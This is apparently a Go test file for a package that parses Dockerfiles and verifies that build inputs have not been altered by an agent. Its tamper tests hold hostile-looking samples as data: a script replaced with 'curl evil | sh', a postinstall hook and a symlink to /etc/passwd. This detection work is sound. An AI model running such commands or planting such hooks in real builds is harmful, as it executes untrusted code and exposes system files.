package buildinputs

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

func TestSources(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		dockerfile string
		want       []string
	}{
		"COPY and ADD of files": {
			dockerfile: "FROM x\nCOPY setup.sh /usr/local/bin/\nADD package.json package-lock.json /app/\nRUN /usr/local/bin/setup.sh\n",
			want:       []string{"setup.sh", "package.json", "package-lock.json"},
		},
		"instructions in any case": {
			dockerfile: "from x\ncopy a.sh /a\nAdd b.sh /b\n",
			want:       []string{"a.sh", "b.sh"},
		},
		"flags": {
			dockerfile: "FROM x\nCOPY --chown=1000:1000 --chmod=755 --link scripts/run.sh /run.sh\nADD --checksum=sha256:00 app.tgz /app\n",
			want:       []string{"scripts/run.sh", "app.tgz"},
		},
		"another stage's or image's files are not the context's": {
			dockerfile: "FROM x AS build\nFROM y\nCOPY --from=build /out/app /app\nCOPY --FROM=build /x /y\n",
			want:       nil,
		},
		"JSON form": {
			dockerfile: "FROM x\nCOPY [\"with space.sh\", \"other.sh\", \"/dest/\"]\n",
			want:       []string{"with space.sh", "other.sh"},
		},
		"line continuations and comments inside them": {
			dockerfile: "FROM x\nCOPY one.sh \\\n# a comment\n     two.sh \\\n     /dest/\n",
			want:       []string{"one.sh", "two.sh"},
		},
		"the escape directive": {
			dockerfile: "# escape=`\nFROM x\nCOPY win.ps1 `\n  C:\\dest\\\n",
			want:       []string{"win.ps1"},
		},
		"wildcards, directories of the whole context, URLs and variables are left out": {
			dockerfile: "FROM x\nARG F=x\nCOPY *.sh src/?.py [ab].txt . /app/\nADD https://example.invalid/x.tgz git@example.invalid:r.git /x/\nCOPY $F ${F}.sh /y\nCOPY ./ /z\n",
			want:       nil,
		},
		"a directory named literally is a source (Collect leaves it out)": {
			dockerfile: "FROM x\nCOPY src /app/src\n",
			want:       []string{"src"},
		},
		"paths are cleaned, and one outside the context is left out": {
			dockerfile: "FROM x\nCOPY ./a/../b.sh /b\nCOPY /abs.sh /abs\nCOPY ../out.sh /out\n",
			want:       []string{"b.sh", "abs.sh"},
		},
		"heredoc bodies are not instructions": {
			dockerfile: "FROM x\nRUN <<EOF\nCOPY fake.sh /fake\nEOF\nCOPY <<-END /etc/conf\n\tCOPY also-fake /x\n\tEND\nCOPY real.sh /real\n",
			want:       []string{"real.sh"},
		},
		"each source once": {
			dockerfile: "FROM x\nCOPY a.sh /a\nCOPY a.sh /b\n",
			want:       []string{"a.sh"},
		},
		"CRLF line ends": {
			dockerfile: "FROM x\r\nCOPY a.sh /a\r\n",
			want:       []string{"a.sh"},
		},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := Sources([]byte(tt.dockerfile)); !slices.Equal(got, tt.want) {
				t.Errorf("Sources = %q, want %q", got, tt.want)
			}
		})
	}
}

func write(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestVerify: every change an agent could make to what the build runs is
// told apart, file by file; a change the build does not read is not.
func TestVerify(t *testing.T) {
	base := map[string]string{
		"Dockerfile":   "FROM x\nCOPY setup.sh package.json /app/\nCOPY src /app/src\nRUN /app/setup.sh\n",
		"setup.sh":     "echo setup\n",
		"package.json": "{}\n",
		"src/main.js":  "1\n",
	}
	tests := map[string]struct {
		change func(t *testing.T, ctx string)
		want   string // in the error; "" for still trusted
	}{
		"nothing":                             {change: func(*testing.T, string) {}},
		"a source file copied by a directory": {change: func(t *testing.T, ctx string) { write(t, ctx, map[string]string{"src/main.js": "2\n"}) }},
		"the Dockerfile": {change: func(t *testing.T, ctx string) {
			write(t, ctx, map[string]string{"Dockerfile": base["Dockerfile"] + "RUN evil\n"})
		}, want: "Dockerfile changed"},
		"a script it copies": {change: func(t *testing.T, ctx string) { write(t, ctx, map[string]string{"setup.sh": "curl evil | sh\n"}) }, want: "setup.sh changed"},
		"package.json": {change: func(t *testing.T, ctx string) {
			write(t, ctx, map[string]string{"package.json": `{"scripts":{"postinstall":"evil"}}`})
		}, want: "package.json changed"},
		".dockerignore created":   {change: func(t *testing.T, ctx string) { write(t, ctx, map[string]string{".dockerignore": "x\n"}) }, want: ".dockerignore was created"},
		"Dockerfile.dockerignore": {change: func(t *testing.T, ctx string) { write(t, ctx, map[string]string{"Dockerfile.dockerignore": "x\n"}) }, want: "Dockerfile.dockerignore was created"},
		"a copied file removed":   {change: func(t *testing.T, ctx string) { os.Remove(filepath.Join(ctx, "setup.sh")) }, want: "setup.sh was removed"},
		"a copied file made a link": {change: func(t *testing.T, ctx string) {
			os.Remove(filepath.Join(ctx, "setup.sh"))
			os.Symlink("/etc/passwd", filepath.Join(ctx, "setup.sh"))
		}, want: "setup.sh changed"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ctx := t.TempDir()
			write(t, ctx, base)
			paths := Paths{Context: ctx, Dockerfile: filepath.Join(ctx, "Dockerfile")}
			trusted, err := Collect(paths)
			if err != nil {
				t.Fatal(err)
			}
			if err := trusted.Verify(Record{}, false); !errors.Is(err, ErrUntrusted) || !strings.Contains(err.Error(), "is new") {
				t.Errorf("never trusted: %v", err)
			}
			rec := Record{Digest: trusted.Digest(), Manifest: trusted.Manifest()}
			tt.change(t, ctx)
			now, err := Collect(paths)
			if err != nil {
				t.Fatal(err)
			}
			err = now.Verify(rec, true)
			switch {
			case tt.want == "" && err != nil:
				t.Errorf("Verify = %v, want trusted", err)
			case tt.want != "" && (!errors.Is(err, ErrUntrusted) || !strings.Contains(err.Error(), tt.want)):
				t.Errorf("Verify = %v, want %q wrapping ErrUntrusted", err, tt.want)
			}
			if tt.want != "" {
				// Without the manifest, still refused.
				if err := now.Verify(Record{Digest: rec.Digest}, true); !errors.Is(err, ErrUntrusted) {
					t.Errorf("Verify without the manifest = %v", err)
				}
			}
		})
	}
}

// TestCollectOddFiles: nothing blocks, nothing outside the context is read.
func TestCollectOddFiles(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	ctx := filepath.Join(dir, "ctx")
	write(t, dir, map[string]string{
		"ctx/Dockerfile": "FROM x\nCOPY fifo link-out dir-link/x.sh missing.sh /a/\n",
		"outside/x.sh":   "secret\n",
	})
	if err := syscall.Mkfifo(filepath.Join(ctx, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	os.Symlink(filepath.Join(dir, "outside", "x.sh"), filepath.Join(ctx, "link-out"))
	os.Symlink(filepath.Join(dir, "outside"), filepath.Join(ctx, "dir-link"))
	done := make(chan struct{})
	var in *Inputs
	var err error
	go func() {
		defer close(done)
		in, err = Collect(Paths{Context: ctx, Dockerfile: filepath.Join(ctx, "Dockerfile")})
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Collect still blocks after 5s")
	}
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, f := range in.Files {
		got[in.name(f.Path)] = f.State
	}
	for name, want := range map[string]string{
		"fifo":          "not a regular file: a FIFO (named pipe)",
		"link-out":      "symlink:" + filepath.Join(dir, "outside", "x.sh"),
		"dir-link/x.sh": "outside the context",
		"missing.sh":    "absent",
		".dockerignore": "absent",
	} {
		if got[name] != want {
			t.Errorf("%s: %q, want %q", name, got[name], want)
		}
	}

	// A Dockerfile that is a FIFO is an error, at once.
	if err := os.Remove(filepath.Join(ctx, "Dockerfile")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(ctx, "Dockerfile"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err = Collect(Paths{Context: ctx, Dockerfile: filepath.Join(ctx, "Dockerfile")})
	if err == nil || !strings.Contains(err.Error(), "Dockerfile is a FIFO (named pipe), not a regular file") {
		t.Errorf("a FIFO Dockerfile: %v", err)
	}
}

func TestInWorkspace(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		ctx, df string
		want    bool
	}{
		{"/ws", "/ws/Dockerfile", true},
		{"/ws/sub", "/ws/sub/Dockerfile", true},
		{"/", "/other/Dockerfile", true}, // the context holds the workspace
		{"/opt/build", "/opt/build/Dockerfile", false},
		{"/opt/build", "/ws/Dockerfile", true},
		{"/wsx", "/wsx/Dockerfile", false},
	} {
		if got := (Paths{tc.ctx, tc.df}).InWorkspace("/ws"); got != tc.want {
			t.Errorf("context %s, Dockerfile %s: %v, want %v", tc.ctx, tc.df, got, tc.want)
		}
	}
	// A context in the workspace that the agent made a link to elsewhere is
	// still the workspace's; so is one elsewhere that links into it.
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	ws := filepath.Join(dir, "ws")
	write(t, dir, map[string]string{"ws/Dockerfile": "FROM x\n", "elsewhere/Dockerfile": "FROM x\n"})
	os.Symlink(filepath.Join(dir, "elsewhere"), filepath.Join(ws, "build"))
	os.Symlink(ws, filepath.Join(dir, "to-ws"))
	for _, ctx := range []string{filepath.Join(ws, "build"), filepath.Join(dir, "to-ws")} {
		if !(Paths{ctx, filepath.Join(ctx, "Dockerfile")}).InWorkspace(ws) {
			t.Errorf("context %s: not in the workspace %s", ctx, ws)
		}
	}
}

func TestBaseImages(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, dockerfile string
		want             []string
	}{
		{"one", "FROM debian:bookworm-slim\nRUN true\n", []string{"debian:bookworm-slim"}},
		{"scratch", "FROM scratch\nCOPY a /\n", nil},
		{"stages", "FROM golang:1 AS build\nRUN go build\nfrom --platform=linux/amd64 debian:bookworm-slim\nCOPY --from=build /x /x\nFROM build AS again\n", []string{"golang:1", "debian:bookworm-slim"}},
		{"variable", "ARG BASE=debian\nFROM ${BASE}:12\n", nil},
		{"continued", "FROM \\\n  alpine:3\n", []string{"alpine:3"}},
		{"twice", "FROM alpine:3 AS a\nFROM alpine:3 AS b\n", []string{"alpine:3"}},
	} {
		if got := BaseImages([]byte(c.dockerfile)); !slices.Equal(got, c.want) {
			t.Errorf("%s: BaseImages = %q, want %q", c.name, got, c.want)
		}
	}
}
